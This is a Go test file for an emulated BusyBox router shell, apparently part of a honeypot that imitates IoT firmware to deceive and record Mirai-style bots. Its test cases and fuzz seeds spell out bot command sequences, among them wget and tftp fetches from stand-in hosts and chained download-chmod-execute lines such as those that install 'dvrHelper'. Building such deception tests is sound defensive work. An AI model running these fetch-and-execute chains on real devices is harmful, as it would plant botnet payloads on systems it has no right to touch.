package shell

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

func newBusyBox(t *testing.T, seed []byte) *Shell {
	t.Helper()
	return newShell(Config{OS: OSBusyBox, Seed: seed, Hostname: "router", User: "root"}, func() time.Time { return testNow })
}

// seedFor returns a seed whose decky runs firmware i.
func seedFor(t *testing.T, i int) []byte {
	t.Helper()
	for n := range 200 {
		seed := []byte(fmt.Sprintf("busybox firmware seed %03d", n))
		if newBusyBox(t, seed).firmware() == &firmwares[i] {
			return seed
		}
	}
	t.Fatalf("no seed selects firmware %d", i)
	return nil
}

// TestBusyBoxMiraiSequence runs the steps a Mirai-style bot takes after
// login and checks each reply byte for byte.
func TestBusyBoxMiraiSequence(t *testing.T) {
	sh := newBusyBox(t, seedFor(t, 0))
	for _, tc := range []struct {
		line, out, err string
		status         int
	}{
		{"enable", "", "sh: enable: not found\n", 127},
		{"system", "", "sh: system: not found\n", 127},
		{"shell", "", "sh: shell: not found\n", 127},
		{"sh", "", "", 0},
		{"/bin/busybox ABCDE", "", "ABCDE: applet not found\n", 127},
		{"busybox MIRAI; echo $?", "127\n", "MIRAI: applet not found\n", 0},
		{"/bin/busybox echo -e '\\x41\\x42'", "AB\n", "", 0},
		{"echo -e '\\x41\\x42\\x7f'", "AB\x7f\n", "", 0},
		{"echo -ne '\\x45\\x4c\\x46' > /tmp/.d; cat /tmp/.d", "ELF", "", 0},
		{"cat /proc/mounts | head -1", "/dev/root /rom squashfs ro,relatime 0 0\n", "", 0},
		{"grep tmpfs /proc/mounts | head -1", "tmpfs /tmp tmpfs rw,nosuid,nodev,noatime,size=" + fmt.Sprint(sh.host.memKiB/2) + "k 0 0\n", "", 0},
		{"head -1 /proc/cpuinfo", "system type\t\t: Qualcomm Atheros QCA9533 ver 2 rev 0\n", "", 0},
		{"cat /proc/version", "Linux version 4.14.180 (builder@buildhost) (gcc version 7.5.0 (OpenWrt GCC 7.5.0 r11063-85e04e9f46)) #0 Thu May 14 15:14:41 2020\n", "", 0},
		{"uname -a", "Linux router 4.14.180 #0 Thu May 14 15:14:41 2020 mips GNU/Linux\n", "", 0},
		{"uname -m", "mips\n", "", 0},
		{"cat /etc/passwd | head -1", "root:x:0:0:root:/root:/bin/sh\n", "", 0},
		{"apt-get update", "", "sh: apt-get: not found\n", 127},
		{"dpkg -l", "", "sh: dpkg: not found\n", 127},
		{"cd /tmp; wget http://203.0.113.9/bins/mips", "", "Connecting to 203.0.113.9:80 (203.0.113.9:80)\nwget: can't connect to remote host (203.0.113.9): Connection refused\n", 1},
		{"wget -q http://cnc.example/x", "", "wget: bad address 'cnc.example'\n", 1},
		{"tftp -g -r mips 203.0.113.9", "", "tftp: timeout\n", 1},
		{"tftp", "", "BusyBox v1.31.1 (2020-05-14 15:14:41 UTC) multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n", 1},
		{"chmod 777 nope", "", "chmod: nope: No such file or directory\n", 1},
		{"cat nope", "", "cat: can't open 'nope': No such file or directory\n", 1},
		{"./nope", "", "sh: ./nope: not found\n", 127},
		{"echo x > /tmp/y; /tmp/y", "", "sh: /tmp/y: Permission denied\n", 126},
		{"dd if=/nope", "", "dd: can't open '/nope': No such file or directory\n", 1},
		{"cd /; pwd", "/\n", "", 0},
		{"echo \"$PS1\"; echo $SHELL", "# \n/bin/sh\n", "", 0},
		{"cp /bin/echo /tmp/e; /tmp/e -e '\\x41'; /tmp/e", "", "e: applet not found\ne: applet not found\n", 127},
		{"ls -l /bin/echo", "lrwxrwxrwx    1 root     root             7 " + lsTime(sh.fs.root.mtime, testNow) + " /bin/echo -> busybox\n", "", 0},
		{"cp /bin/echo /tmp/echo; /tmp/echo -e '\\x41'", "A\n", "", 0},
		{"cd /tmp; cp /bin/echo d; >d; ls -l d", "-rwxr-xr-x    1 root     root             0 Dec  4 23:50 d\n", "", 0},
		{"cd /nope", "", "sh: cd: line 0: can't cd to /nope: No such file or directory\n", 2},
		{"cd /etc/passwd", "", "sh: cd: line 0: can't cd to /etc/passwd: Not a directory\n", 2},
	} {
		t.Run(tc.line, func(t *testing.T) {
			out, errOut, st := run(t, sh, tc.line)
			if out != tc.out || errOut != tc.err || st != tc.status {
				t.Errorf("%q:\nout %q\nerr %q\nstatus %d", tc.line, out, errOut, st)
			}
		})
	}
}

func TestBusyBoxBannerAndPrompt(t *testing.T) {
	sh := newBusyBox(t, seedFor(t, 2))
	want := "\n\nBusyBox v1.31.1 (2020-03-06 17:21:07 CST) built-in shell (ash)\nEnter 'help' for a list of built-in commands.\n\n"
	if got := sh.Motd(testNow, testNow, "10.0.0.1"); got != want {
		t.Errorf("banner %q", got)
	}
	if sh.prompt() != "# " {
		t.Errorf("prompt %q", sh.prompt())
	}
	out, _, _ := run(t, sh, "busybox")
	if !strings.HasPrefix(out, "BusyBox v1.31.1 (2020-03-06 17:21:07 CST) multi-call binary.\nBusyBox is copyrighted by many authors between 1998-2015.\n") ||
		!strings.Contains(out, "Currently defined functions:\n\t[, [[, arping, ash, awk, basename, brctl, cat, chgrp, chmod, chown,\n") {
		t.Errorf("usage %q", out)
	}
	for _, a := range []string{"wget", "tftp", "dd", "telnetd"} {
		if !strings.Contains(out, " "+a+",") && !strings.Contains(out, "\t"+a+",") {
			t.Errorf("applet list lacks %s", a)
		}
	}
}

// TestBusyBoxELFHeader checks the header bots read with dd and cat: an
// ELF32 executable of the firmware's machine and byte order.
func TestBusyBoxELFHeader(t *testing.T) {
	for i, want := range []struct {
		data    byte
		machine []byte
		arch    string
	}{
		{2, []byte{0, 8}, "mips"},
		{1, []byte{8, 0}, "mips"},
		{1, []byte{40, 0}, "armv7l"},
	} {
		t.Run(want.arch+fmt.Sprint(i), func(t *testing.T) {
			sh := newBusyBox(t, seedFor(t, i))
			out, errOut, st := run(t, sh, "dd bs=52 count=1 if=/bin/echo")
			if st != 0 || errOut != "1+0 records in\n1+0 records out\n" || len(out) != 52 {
				t.Fatalf("dd: %d bytes, err %q, status %d", len(out), errOut, st)
			}
			if out[:7] != "\x7fELF\x01"+string(want.data)+"\x01" || out[18:20] != string(want.machine) {
				t.Errorf("header % x", out)
			}
			var order binary.ByteOrder = binary.LittleEndian
			if want.data == 2 {
				order = binary.BigEndian
			}
			if order.Uint16([]byte(out[16:])) != 2 || order.Uint16([]byte(out[40:])) != 52 || order.Uint32([]byte(out[28:])) != 52 {
				t.Errorf("type, ehsize or phoff wrong: % x", out)
			}
			if m, _, _ := run(t, sh, "uname -m"); m != want.arch+"\n" {
				t.Errorf("uname -m %q", m)
			}

			cat, _, _ := run(t, sh, "cat /bin/echo")
			if len(cat) != bbBinaryCap || cat[:52] != out {
				t.Errorf("cat /bin/echo: %d bytes", len(cat))
			}
			part, errOut, _ := run(t, sh, "dd bs=10 count=3 skip=1 if=/bin/busybox")
			if part != cat[10:40] || errOut != "3+0 records in\n3+0 records out\n" {
				t.Errorf("dd skip: %q %q", part, errOut)
			}
			tail, errOut, _ := run(t, sh, "dd bs=1000000 if=/bin/sh")
			if len(tail) != bbBinaryCap || errOut != "0+1 records in\n0+1 records out\n" {
				t.Errorf("dd of the capped binary: %d bytes, %q", len(tail), errOut)
			}
		})
	}
}

func TestBusyBoxSeedsDiffer(t *testing.T) {
	a, b := newBusyBox(t, seedFor(t, 0)), newBusyBox(t, seedFor(t, 1))
	ca, _, _ := run(t, a, "cat /proc/cpuinfo")
	cb, _, _ := run(t, b, "cat /proc/cpuinfo")
	if ca == cb || !strings.Contains(cb, "MT7621") || strings.Count(cb, "processor") != 4 {
		t.Errorf("cpuinfo not per firmware:\n%s\n%s", ca, cb)
	}
	ba, _, _ := run(t, a, "cat /bin/busybox")
	bb, _, _ := run(t, b, "cat /bin/busybox")
	if ba[200:300] == bb[200:300] {
		t.Error("binary bytes shared between deckies")
	}
}

// TestBusyBoxDownloadAndRun follows a fetched file from wget through
// chmod to ./x, which prints nothing and executes nothing.
func TestBusyBoxDownloadAndRun(t *testing.T) {
	var reported []*eventv1.DownloadRequested
	var fetched []string
	cfg := Config{
		OS: OSBusyBox, Seed: seedFor(t, 1), User: "root",
		Fetch: func(_ context.Context, tool, url string) FetchResult {
			fetched = append(fetched, tool+" "+url)
			if tool == "tftp" {
				return FetchResult{Outcome: "failed"}
			}
			return FetchResult{Outcome: "fetched", Size: 70312, SHA256: bytes.Repeat([]byte{1}, 32)}
		},
		OnDownload: func(d *eventv1.DownloadRequested) { reported = append(reported, d) },
	}
	sh := newShell(cfg, func() time.Time { return testNow })
	out, errOut, st := run(t, sh, "cd /tmp || cd /var/run; wget http://203.0.113.9/bins/mpsl -O dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.mpsl; ls -l dvrHelper")
	wantErr := "Connecting to 203.0.113.9:80 (203.0.113.9:80)\nsaving to 'dvrHelper'\ndvrHelper            100% |********************************| 70312  0:00:00 ETA\n'dvrHelper' saved\n"
	if errOut != wantErr || st != 0 || !strings.HasPrefix(out, "-rwxrwxrwx") || !strings.Contains(out, " 70312 ") {
		t.Errorf("out %q\nerr %q\nstatus %d", out, errOut, st)
	}
	_, errOut, st = run(t, sh, "tftp -g -l t -r tftp.mpsl 203.0.113.9; ls t")
	if errOut != "tftp: timeout\nls: cannot access 't': No such file or directory\n" || st != 2 {
		t.Errorf("tftp: %q %d", errOut, st)
	}
	if len(reported) != 2 || reported[0].GetUrl() != "http://203.0.113.9/bins/mpsl" || reported[0].GetTool() != "wget" || reported[0].GetOutcome() != "fetched" ||
		reported[1].GetUrl() != "tftp://203.0.113.9/tftp.mpsl" || reported[1].GetTool() != "tftp" || reported[1].GetOutcome() != "failed" {
		t.Errorf("reported %v", reported)
	}
	if len(fetched) != 2 {
		t.Errorf("fetch hook calls %v", fetched)
	}

	// A binary of the device's own architecture runs quietly, and one built
	// for another fails the same way every time.
	hdr, _, _ := run(t, sh, "dd bs=52 count=1 if=/bin/echo")
	var esc strings.Builder
	for i := range len(hdr) {
		fmt.Fprintf(&esc, "\\x%02x", hdr[i])
	}
	for _, tc := range []struct{ header, err string }{
		{esc.String(), ""},
		{strings.Replace(esc.String(), "\\x08\\x00", "\\x3e\\x00", 1), "Illegal instruction\n"},
	} {
		out, errOut, st := run(t, sh, "echo -ne '"+tc.header+"' > .x; chmod +x .x; ./.x")
		wantSt := 0
		if tc.err != "" {
			wantSt = 132
		}
		if out != "" || errOut != tc.err || st != wantSt {
			t.Errorf("./.x: %q %q %d", out, errOut, st)
		}
	}
}

func TestBusyBoxInteractive(t *testing.T) {
	sh := newBusyBox(t, testSeed)
	term := &scripted{in: strings.NewReader("enable\r/bin/busybox ECCHI\rexit\r")}
	if err := sh.Interactive(context.Background(), term); err != nil {
		t.Fatal(err)
	}
	want := "# enable\r\n-sh: enable: not found\r\n# /bin/busybox ECCHI\r\nECCHI: applet not found\r\n# exit\r\n"
	if got := term.out.String(); got != want {
		t.Errorf("transcript %q", got)
	}
	if sh.vars["SSH_TTY"] != "" || sh.vars["SHELL"] != "/bin/sh" {
		t.Errorf("environment %v", sh.vars)
	}
}

// busyboxSeeds are command lines bots send to BusyBox devices, for the
// parser and interpreter fuzz targets.
var busyboxSeeds = []string{
	"enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
	"echo -e '\\x41\\x4b\\x34\\x37' > .t; cat .t", "dd bs=52 count=1 if=/bin/echo || cat /bin/echo",
	"cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/x -O x; tftp -g -r x 1.2.3.4; chmod 777 x; ./x",
	"/bin/busybox wget; /bin/busybox tftp; /bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46' > dvrHelper",
	">/tmp/.file && cd /tmp/; >/dev/.file && cd /dev/; /bin/busybox cp /bin/echo .e; >.e; /bin/busybox chmod 777 .e",
}

func FuzzBusyBoxExec(f *testing.F) {
	for _, s := range busyboxSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > maxLineBytes || strings.Contains(src, "sleep") {
			return
		}
		sh := newShell(Config{OS: OSBusyBox, Seed: testSeed}, func() time.Time { return testNow })
		sh.Exec(context.Background(), src, discard{}, discard{})
		if sh.fs.bytes > maxOverlayBytes || sh.out > maxOutputBytes {
			t.Fatalf("caps exceeded: overlay %d, output %d", sh.fs.bytes, sh.out)
		}
	})
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

// TestBusyBoxOracle compares the emulation with Debian's busybox binary
// where it is installed: the applet-not-found reply, the layout of the
// applet list and echo's escapes. Only fixed arguments reach the real
// binary, in a temporary directory.
func TestBusyBoxOracle(t *testing.T) {
	bin, err := exec.LookPath("busybox")
	if err != nil {
		t.Skip("busybox is not installed (apt-get install busybox-static)")
	}
	dir := t.TempDir()
	real := func(args ...string) (string, string, int) {
		cmd := exec.Command(bin, args...)
		cmd.Dir = dir
		cmd.Env = []string{"PATH=/nonexistent"}
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		code := 0
		if ee := (*exec.ExitError)(nil); errors.As(err, &ee) {
			code = ee.ExitCode()
		}
		return out.String(), errb.String(), code
	}
	sh := newBusyBox(t, testSeed)

	rOut, rErr, rSt := real("ABCDE")
	eOut, eErr, eSt := run(t, sh, "/bin/busybox ABCDE")
	if rOut != eOut || rErr != eErr || rSt != eSt {
		t.Errorf("applet not found: real %q %q %d, emulated %q %q %d", rOut, rErr, rSt, eOut, eErr, eSt)
	}

	for _, line := range []string{"cd /nope", "enable", "/bin/nope"} {
		rOut, rErr, rSt := real("sh", "-c", line)
		eOut, eErr, eSt := run(t, sh, line)
		if rOut != eOut || rErr != eErr || rSt != eSt {
			t.Errorf("%s: real %q %q %d, emulated %q %q %d", line, rOut, rErr, rSt, eOut, eErr, eSt)
		}
	}

	// Debian's build lists its applets after the builtins, so only the
	// lines before the last builtin compare.
	rHelp, _, _ := real("sh", "-c", "help")
	eHelp, _, _ := run(t, sh, "help")
	if r, e := strings.SplitN(rHelp, "\n", 5), strings.SplitN(eHelp, "\n", 5); strings.Join(r[:4], "\n") != strings.Join(e[:4], "\n") {
		t.Errorf("help: real %q, emulated %q", r[:4], e[:4])
	}

	help, _, _ := real()
	list, _, _ := real("--list")
	_, section, ok := strings.Cut(help, "Currently defined functions:\n")
	if !ok || section != wrapApplets(strings.Fields(list)) {
		t.Errorf("applet list layout differs:\n%s", section)
	}
	first := strings.SplitN(help, "\n", 2)[0]
	if !strings.HasPrefix(first, "BusyBox v") || !strings.HasSuffix(first, ") multi-call binary.") {
		t.Errorf("help header %q", first)
	}
	// Debian's build runs applets without PATH search, which changes
	// the paragraph after the usage lines. The lines before it match.
	if e, _, _ := run(t, sh, "busybox"); !strings.HasPrefix(help[len(first)+1:], strings.SplitN(e, "\n", 2)[1][:180]) {
		t.Errorf("help text after the header differs:\n%q\n%q", help[len(first):], e)
	}

	for _, args := range [][]string{
		{"-e", `\x41\x42`}, {"-e", `a\0101b\cZ`}, {"-ne", `\x7f\x45\x4c\x46\x01`}, {"-e", `\xZZ\x4`}, {"-E", `\x41`}, {"-e", `tab\there\\`},
	} {
		rOut, _, _ := real(append([]string{"echo"}, args...)...)
		eOut, _, _ := run(t, sh, "echo "+args[0]+" '"+args[1]+"'")
		if rOut != eOut {
			t.Errorf("echo %q: real %q, emulated %q", args, rOut, eOut)
		}
	}
}
